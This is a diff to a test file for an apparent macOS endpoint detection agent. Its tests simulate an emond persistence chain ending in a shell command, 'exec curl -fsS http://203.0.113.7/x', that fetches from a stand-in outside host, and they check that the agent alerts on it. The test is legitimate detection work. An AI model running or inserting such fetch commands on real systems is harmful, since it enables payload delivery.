@@ -49,7 +49,8 @@ async function start(options: AgentStartOptions): Promise<Agent> {
 
 /** launchd → emond → sh -c (exec in place → curl) and a git by zsh that must not alert. */
 function emondChainTrace(options: { withEmondBirth?: boolean } = {}): string {
-  const t = new TraceBuilder({ version: 9 }, () => new Date().toISOString());
+  // Microseconds, as eslogger prints start times.
+  const t = new TraceBuilder({ version: 9 }, () => new Date().toISOString().replace('Z', '000Z'));
   const launchd = t.existing(1, '/sbin/launchd', 0);
   const emond = options.withEmondBirth === false ? { ...t.existing(118, '/sbin/emond', 1), pidversion: 118 } : t.spawn(launchd, 118, '/sbin/emond');
   const sh = t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'exec curl -fsS http://203.0.113.7/x']);
@@ -100,6 +101,11 @@ describe('the agent, end to end through the ES simulator', () => {
       ['alert', '3e3d15c6-1509-479a-b125-21718372157e', 'curl'],
     ]);
     expect(agentEventKinds(config.databasePath)).toEqual(expect.arrayContaining(['start', 'stop']));
+    // The parent named by the ES thread still carries its identity from the process tree, as it
+    // does through eslogger: the same entity id emond's own exec had.
+    const emondExec = readFileSync(trace, 'utf8').split('\n').map((l) => (l ? JSON.parse(l) : undefined)).find((m) => m?.event?.exec?.target?.executable?.path === '/sbin/emond');
+    const emondToken = emondExec.event.exec.target.audit_token;
+    expect(ecs[0].process.parent.entity_id).toBe(`118:${emondToken.pidversion}:${emondExec.event.exec.target.start_time}`);
   });
 
   it('knows an emond that started before the agent, from the start-up process snapshot', async () => {
@@ -186,6 +192,24 @@ describe('source selection', () => {
     await until(() => agent.metrics.events >= 14);
     await agent.stop();
     expect(storedAlerts(config.databasePath).length).toBeGreaterThanOrEqual(2);
+  });
+
+  it('refuses an emond-only mode that would watch no existing binary, and watches the ones listed', async () => {
+    const blind = workspace({ esMode: 'emond-only' });
+    const error = await Agent.start({ config: blind.config, source: 'endpoint-security', addon: addon(), environment: onAMac }).catch((e: unknown) => e);
+    expect(error).toMatchObject({ code: 'E_AGENT_EMOND_ONLY_BLIND' });
+    expect((error as Error).message).toContain('emond was removed in macOS 13');
+
+    const { dir } = blind;
+    const copy = path.join(dir, 'emond');
+    writeFileSync(copy, '');
+    const { config } = workspace({ esMode: 'emond-only', emondPaths: [copy, path.join(dir, 'gone')] });
+    const agent = await start({ config, source: 'endpoint-security', addon: addon(), environment: onAMac });
+    expect(sim().clients()[0]).toMatchObject({ pathMutingInverted: true });
+    // Both are selected: a binary that appears later at a listed path is watched from then on.
+    expect(sim().clients()[0]?.mutedPaths.map((m) => m.path)).toEqual([copy, path.join(dir, 'gone')]);
+    await agent.stop();
+    expect(readFileSync(config.agentLogPath as string, 'utf8')).toContain(`${path.join(dir, 'gone')} does not exist`);
   });
 
   it('needs macOS 13 for the eslogger fallback', async () => {
